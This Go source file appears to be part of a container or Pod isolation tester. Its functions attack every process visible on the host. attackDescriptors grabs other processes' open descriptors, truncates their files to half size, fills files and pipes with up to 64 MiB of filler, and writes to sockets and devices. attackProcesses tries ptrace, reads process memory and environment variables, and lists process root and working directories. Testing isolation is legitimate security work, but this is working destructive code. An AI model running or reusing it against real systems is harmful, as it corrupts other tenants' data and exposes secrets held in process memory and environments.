package main

import (
	"bytes"
	"fmt"
	"io"
	"os"
	"slices"
	"strconv"
	"strings"
	"sync"
	"time"

	"golang.org/x/sys/unix"
)

const (
	flood       = 64 << 20        // bytes that are written to what may be kept outside
	floodWithin = 3 * time.Second // to one descriptor
)

// attackDescriptors writes to every descriptor of every process. args are the
// devices, MAJOR:MINOR, of file systems that are not the cluster's own: files on
// others are left as they are.
func attackDescriptors(args []string) error {
	refused, tried := map[string]int{}, 0
	var wait sync.WaitGroup
	var mu sync.Mutex
	for _, pid := range processes() {
		process, err := unix.PidfdOpen(pid, 0)
		if err != nil {
			continue // it has ended
		}
		comm, _ := os.ReadFile(fmt.Sprintf("/proc/%d/comm", pid))
		entries, _ := os.ReadDir(fmt.Sprintf("/proc/%d/fd", pid))
		for _, entry := range entries {
			number, err := strconv.Atoi(entry.Name())
			if err != nil {
				continue
			}
			tried++
			link := fmt.Sprintf("/proc/%d/fd/%d", pid, number)
			name, _ := os.Readlink(link)
			for way, open := range map[string]func() (int, error){
				"pidfd_getfd": func() (int, error) { return unix.PidfdGetfd(process, number, 0) },
				"open":        func() (int, error) { return unix.Open(link, unix.O_RDWR|unix.O_NONBLOCK|unix.O_CLOEXEC, 0) },
				"open to write": func() (int, error) {
					return unix.Open(link, unix.O_WRONLY|unix.O_NONBLOCK|unix.O_CLOEXEC, 0)
				},
			} {
				fd, err := open()
				if err != nil {
					refused[way+" "+errorName(err)]++
					continue
				}
				wait.Go(func() {
					defer unix.Close(fd)
					done, dev := attackDescriptor(fd, args)
					if len(done) == 0 {
						return
					}
					mu.Lock()
					defer mu.Unlock()
					report(result{Attack: "descriptors", Way: way, Device: device(dev), Done: done,
						Where: fmt.Sprintf("descriptor %d of process %d (%s): %s", number, pid, strings.TrimSpace(string(comm)), name)})
				})
			}
		}
		unix.Close(process)
	}
	wait.Wait()
	report(result{Attack: "descriptors", Count: tried, Refused: refused})
	return nil
}

// attackDescriptor does to an open file what its kind allows, and returns what was
// let happen, and the file's device.
func attackDescriptor(fd int, foreign []string) (done []string, dev uint64) {
	try := func(what string, err error) {
		if err == nil {
			done = append(done, what)
		}
	}
	var stat unix.Stat_t
	if err := unix.Fstat(fd, &stat); err != nil || isOwn(&stat) {
		return nil, 0
	}
	dev = uint64(stat.Dev)
	switch stat.Mode & unix.S_IFMT {
	case unix.S_IFREG:
		if !slices.Contains(foreign, device(dev)) {
			return nil, dev
		}
		try("chmod", unix.Fchmod(fd, stat.Mode&0o7777))
		try("truncate", unix.Ftruncate(fd, stat.Size/2))
		if n := fill(fd); n > 0 {
			try(fmt.Sprintf("write %d MiB", n>>20), nil)
		}
	case unix.S_IFDIR:
		if !slices.Contains(foreign, device(dev)) {
			return nil, dev
		}
		done, _ = target{dir: procFD, path: fmt.Sprintf("thread-self/fd/%d", fd)}.write(false)
	case unix.S_IFIFO:
		if n := fill(fd); n > 0 {
			try(fmt.Sprintf("write %d KiB to a pipe", n>>10), nil)
		}
	case unix.S_IFSOCK:
		try("send", unix.Sendmsg(fd, []byte(marker), nil, nil, unix.MSG_DONTWAIT|unix.MSG_NOSIGNAL))
	case unix.S_IFCHR:
		if kind := unix.Major(uint64(stat.Rdev)); kind == 1 || kind == 5 || kind >= 136 && kind < 144 {
			return nil, dev // null and its like, and terminals
		}
		_, err := unix.Write(fd, []byte(marker))
		try("write to a device", err)
	case unix.S_IFBLK:
		try("a block device", nil)
	}
	return done, dev
}

// isOwn reports whether it is where this program's results go.
func isOwn(stat *unix.Stat_t) bool {
	for fd := range 3 {
		var own unix.Stat_t
		if unix.Fstat(fd, &own) == nil && own.Dev == stat.Dev && own.Ino == stat.Ino && stat.Mode&unix.S_IFMT != unix.S_IFCHR {
			return true
		}
	}
	return false
}

// fill writes as much as a file or pipe takes, up to flood, and returns how much
// that was.
func fill(fd int) (written int) {
	block := bytes.Repeat(append(bytes.Repeat([]byte("."), 1<<10), marker+"\n"...), 60)
	if flags, err := unix.FcntlInt(uintptr(fd), unix.F_GETFL, 0); err == nil && flags&unix.O_NONBLOCK == 0 {
		_ = unix.SetNonblock(fd, true)
		defer unix.SetNonblock(fd, false) // its owner shares this flag
	}
	deadline := time.Now().Add(floodWithin)
	for written < flood && time.Now().Before(deadline) {
		n, err := unix.Write(fd, block)
		if n > 0 {
			written += n
		}
		switch err {
		case nil, unix.EINTR:
		case unix.EAGAIN: // whoever reads it may go on
			_, _ = unix.Poll([]unix.PollFd{{Fd: int32(fd), Events: unix.POLLOUT}}, 200)
		default:
			return written
		}
	}
	return written
}

// attackProcesses traces every process and reads its memory, which needs the right
// to write it. Processes in the Pod's own user namespace, or one below, are the
// Pod's to trace.
func attackProcesses([]string) error {
	own, err := os.Readlink("/proc/self/ns/user")
	if err != nil {
		return err
	}
	refused, tried := map[string]int{}, 0
	for _, pid := range processes() {
		dir := fmt.Sprintf("/proc/%d/", pid)
		users, err := os.Readlink(dir + "ns/user")
		if err == nil && (users == own || usersBelow(dir+"ns/user", own)) {
			continue
		}
		tried++
		comm, _ := os.ReadFile(dir + "comm")
		var done []string
		try := func(what string, err error) {
			if err == nil {
				done = append(done, what)
				return
			}
			refused[what+" "+errorName(err)]++
		}
		_, _, errno := unix.Syscall6(unix.SYS_PTRACE, unix.PTRACE_SEIZE, uintptr(pid), 0, 0, 0, 0)
		try("ptrace", errnoOf(errno))
		try("memory", readMemory(pid))
		try("environment", readSome(dir+"environ"))
		for _, folder := range []string{"root", "cwd"} {
			_, err := os.ReadDir(dir + folder + "/")
			try(folder, err)
		}
		if len(done) > 0 {
			report(result{Attack: "processes", Where: fmt.Sprintf("process %d (%s) in %s", pid, strings.TrimSpace(string(comm)), users), Done: done})
		}
	}
	report(result{Attack: "processes", Count: tried, Refused: refused, Note: own})
	return nil
}

func errnoOf(errno unix.Errno) error {
	if errno == 0 {
		return nil
	}
	return errno
}

func readSome(path string) error {
	file, err := os.Open(path)
	if err != nil {
		return err
	}
	defer file.Close()
	_, err = io.ReadFull(file, make([]byte, 1))
	return err
}

// readMemory reads a byte of the first page that the process has mapped.
func readMemory(pid int) error {
	maps, err := os.ReadFile(fmt.Sprintf("/proc/%d/maps", pid))
	if err != nil {
		return err
	}
	begin, _, _ := strings.Cut(string(maps), "-")
	address, err := strconv.ParseUint(begin, 16, 64)
	if err != nil {
		return unix.ESRCH
	}
	local := make([]byte, 1)
	iov := unix.Iovec{Base: &local[0]}
	iov.SetLen(1)
	_, err = unix.ProcessVMReadv(pid, []unix.Iovec{iov}, []unix.RemoteIovec{{Base: uintptr(address), Len: 1}}, 0)
	return err
}

// usersBelow reports whether the user namespace at path is below the one called own.
func usersBelow(path, own string) bool {
	fd, err := unix.Open(path, unix.O_RDONLY|unix.O_CLOEXEC, 0)
	for err == nil {
		var parent int
		parent, err = unix.IoctlRetInt(fd, nsGetParent)
		unix.Close(fd)
		if err != nil {
			return false
		}
		if name, _ := os.Readlink(fmt.Sprintf("/proc/self/fd/%d", parent)); name == own {
			unix.Close(parent)
			return true
		}
		fd = parent
	}
	return false
}
